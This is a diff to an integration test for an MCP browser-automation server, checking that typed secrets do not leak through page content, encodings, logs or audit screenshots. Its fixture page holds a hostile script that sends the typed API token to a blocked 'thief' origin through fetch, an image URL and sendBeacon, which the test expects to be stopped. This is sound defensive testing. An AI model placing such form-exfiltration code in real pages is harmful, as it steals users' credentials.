@@ -46,9 +46,31 @@ const refOf = (snapshot: string, role: string, name: string) => {
   return m[1];
 };
 
+/**
+ * The spellings a value comes back in, produced by the platform's own encoders (WHATWG URL parser, form
+ * encoding, DOM serialisation), not by the redactor: a spelling it does not know is caught here.
+ */
+function platformSpellings(v: string): string[] {
+  const url = new URL(`http://h.example/${v.replace(/[?#]/g, '')}?q=${v.replace(/#/g, '')}#${v}`);
+  return [
+    v,
+    url.pathname.slice(1),
+    url.search.slice(3),
+    url.hash.slice(1),
+    new URLSearchParams({ v }).toString().slice(2),
+    encodeURIComponent(v),
+    JSON.stringify(v).slice(1, -1),
+    v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;'),
+    v.replace(/&/g, '&amp;').replace(/"/g, '&quot;'),
+    v.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;'),
+  ];
+}
+
 describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopback server)', function () {
   this.timeout(180_000);
   let site: LoggedServer;
+  /** A blocked origin the hostile page tries to send the typed value to. */
+  let thief: LoggedServer;
   let mcp: Mcp;
   let work: string;
   let audit: string;
@@ -60,28 +82,34 @@ describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopb
   };
 
   before(async () => {
+    thief = await startLoggedServer({});
+    const T = thief.origin;
     site = await startLoggedServer({
       '/form': `<!doctype html><title>Keys</title>
         <form action="/landing" method="get"><label>API token <input id=tok name=tok></label><button>Save</button></form>
         <select id=sel aria-label=Plan><option>Basic</option><option>Pro</option></select>
         <p id=echo></p><a id=lnk href="/x">link</a>
-        <script>tok.addEventListener('input', () => { echo.textContent = 'You typed ' + tok.value; lnk.href = '/x?v=' + encodeURIComponent(tok.value); lnk.title = tok.value; document.title = 'Keys ' + tok.value; console.error('typed ' + tok.value); });</script>`,
+        <script>tok.addEventListener('input', () => { echo.textContent = 'You typed ' + tok.value; lnk.href = '/x?v=' + encodeURIComponent(tok.value); lnk.title = tok.value; document.title = 'Keys ' + tok.value; console.error('typed ' + tok.value);
+          // A hostile page: sends what is typed to another origin (blocked), raw, encoded and as a body.
+          fetch('${T}/steal?v=' + tok.value).catch(() => {}); new Image().src = '${T}/img/' + encodeURIComponent(tok.value); navigator.sendBeacon('${T}/beacon', tok.value); });</script>`,
       '/landing': (req, res) => {
         const v = new URL(req.url!, 'http://x').searchParams.get('tok') ?? '';
         res.writeHead(200, { 'content-type': 'text/html' });
         res.end(`<!doctype html><title>Saved ${v.replace(/[<&>]/g, (c) => `&#${c.charCodeAt(0)};`)}</title><p>Saved ${v.replace(/[<&>"']/g, (c) => `&#${c.charCodeAt(0)};`)}</p>`);
       },
       '/mask': `<!doctype html><title>Mask</title><style>input{font:32px monospace;width:600px;display:block;margin:10px}</style>
-        <label>API token <input id=a></label><label>Nickname <input id=b></label>`,
+        <label>API token <input id=a></label><label>Nickname <input id=b></label><button type=button>Send</button>`,
     });
     work = mkdtempSync(join(tmpdir(), 'ba-sec-'));
     audit = join(work, 'audit');
     writeFileSync(join(work, 'secrets.env'), `TOKEN='${SECRET}'\nOTHER=unbound-secret-value\n`);
-    mcp = await spawnMcp([...launchArgs, '--secrets-file', join(work, 'secrets.env'), '--secret-origins', `TOKEN@127.0.0.1:${site.port}`, '--audit-dir', audit]);
+    mcp = await spawnMcp(mcpArgs());
   });
+  const mcpArgs = () => [...launchArgs, '--secrets-file', join(work, 'secrets.env'), '--secret-origins', `TOKEN@127.0.0.1:${site.port}`, '--audit-dir', audit, '--blocked-origins', `127.0.0.1:${thief.port}`];
   after(async () => {
     await mcp?.close();
     await site?.close();
+    await thief?.close();
     if (work) rmSync(work, { recursive: true, force: true });
   });
 
@@ -124,7 +152,10 @@ describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopb
     const submitted = site.log.find((l) => l.startsWith('GET /landing'));
     assert.ok(submitted, `the form was submitted to the bound origin (${site.log.join(', ')})`);
 
-    const forms = spellings(SECRET);
+    const forms = [...new Set([...spellings(SECRET), ...platformSpellings(SECRET)])];
+    // The hostile page's attempts were stopped before they were sent, and reported without the value.
+    assert.deepEqual(thief.log, [], 'the blocked origin got nothing');
+    assert.ok(outputs.some((t) => /an? (fetch|XHR) request to <page-content id=\w+>http:\/\/127\.0\.0\.1:\d+\/steal\?v=\{\{secret:TOKEN\}\}/.test(t)), `the stopped exfiltration is reported, the value shown as its placeholder:\n${outputs.join('\n')}`);
     assert.ok(forms.includes(encodeURIComponent(SECRET)) && forms.includes(SECRET.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;')));
     const leaks = (where: string, text: string) => {
       for (const f of forms) assert.ok(!text.includes(f), `${where} contains the secret as ${JSON.stringify(f)}:\n${text.slice(Math.max(0, text.indexOf(f) - 200), text.indexOf(f) + 200)}`);
@@ -144,7 +175,7 @@ describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopb
       }
     }
     assert.equal(statSync(audit).mode & 0o777, 0o700);
-    mcp = await spawnMcp([...launchArgs, '--secrets-file', join(work, 'secrets.env'), '--secret-origins', `TOKEN@127.0.0.1:${site.port}`, '--audit-dir', audit]);
+    mcp = await spawnMcp(mcpArgs());
   });
 
   it('a bound secret is refused on another origin; an unbound one needs a confirmation this client cannot show', async () => {
@@ -163,7 +194,7 @@ describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopb
     await mcp.close();
     const log = filesUnder(audit).filter((f) => f.endsWith('.jsonl')).map((f) => readFileSync(f, 'utf8')).join('\n');
     assert.match(log, /"needs-confirmation"/, 'the audit log records needs-confirmation');
-    mcp = await spawnMcp([...launchArgs, '--secrets-file', join(work, 'secrets.env'), '--secret-origins', `TOKEN@127.0.0.1:${site.port}`, '--audit-dir', audit]);
+    mcp = await spawnMcp(mcpArgs());
   });
 
   it('browser_screenshot masks a secret field (its pixels do not depend on the value) but not an ordinary one', async () => {
@@ -181,5 +212,24 @@ describe('mcp: secrets never leave (real MCP server, real Chromium, logged loopb
     await shot(token, '');
     const [n1, n2] = [await shot(nick, 'AAAAAAAAAAAA'), await shot(nick, 'WWWWWWWWWWWW')];
     assert.notEqual(n1, n2, 'an ordinary field is not masked (so the comparison above can fail)');
+    // The audit's own pictures: it takes one after each step rated notify or more, e.g. a click on "Send".
+    const send = refOf(snap, 'button', 'Send');
+    const sendAfter = async (ref: string, text: string) => {
+      const typed = await call('browser_type', { ref, text });
+      const clicked = await call('browser_click', { ref: send });
+      assert.ok(!typed.isError && !clicked.isError, `${typed.text}\n${clicked.text}`);
+    };
+    await shot(nick, '');
+    for (const [ref, text] of [[token, 'AAAAAAAAAAAA'], [token, 'WWWWWWWWWWWW'], [token, ''], [nick, 'AAAAAAAAAAAA'], [nick, 'WWWWWWWWWWWW']]) await sendAfter(ref, text);
+    await mcp.close();
+    const clicks = filesUnder(audit)
+      .filter((f) => f.endsWith('.jsonl'))
+      .flatMap((f) => readFileSync(f, 'utf8').trim().split('\n').map((l) => ({ dir: join(f, '..'), ...JSON.parse(l) })))
+      .filter((e) => e.tool === 'browser_click' && e.target?.name === 'Send' && e.screenshots?.after);
+    assert.ok(clicks.length >= 5, `the audit has after-pictures of the five clicks (${clicks.length} found)`);
+    const [a1, a2, , b1, b2] = clicks.slice(-5).map((e) => readFileSync(join(e.dir, e.screenshots.after)).toString('base64'));
+    assert.equal(a1, a2, 'the audit picture with the token field filled does not depend on the value');
+    assert.notEqual(b1, b2, 'with an ordinary field filled it does (so the comparison above can fail)');
+    mcp = await spawnMcp(mcpArgs());
   });
 });
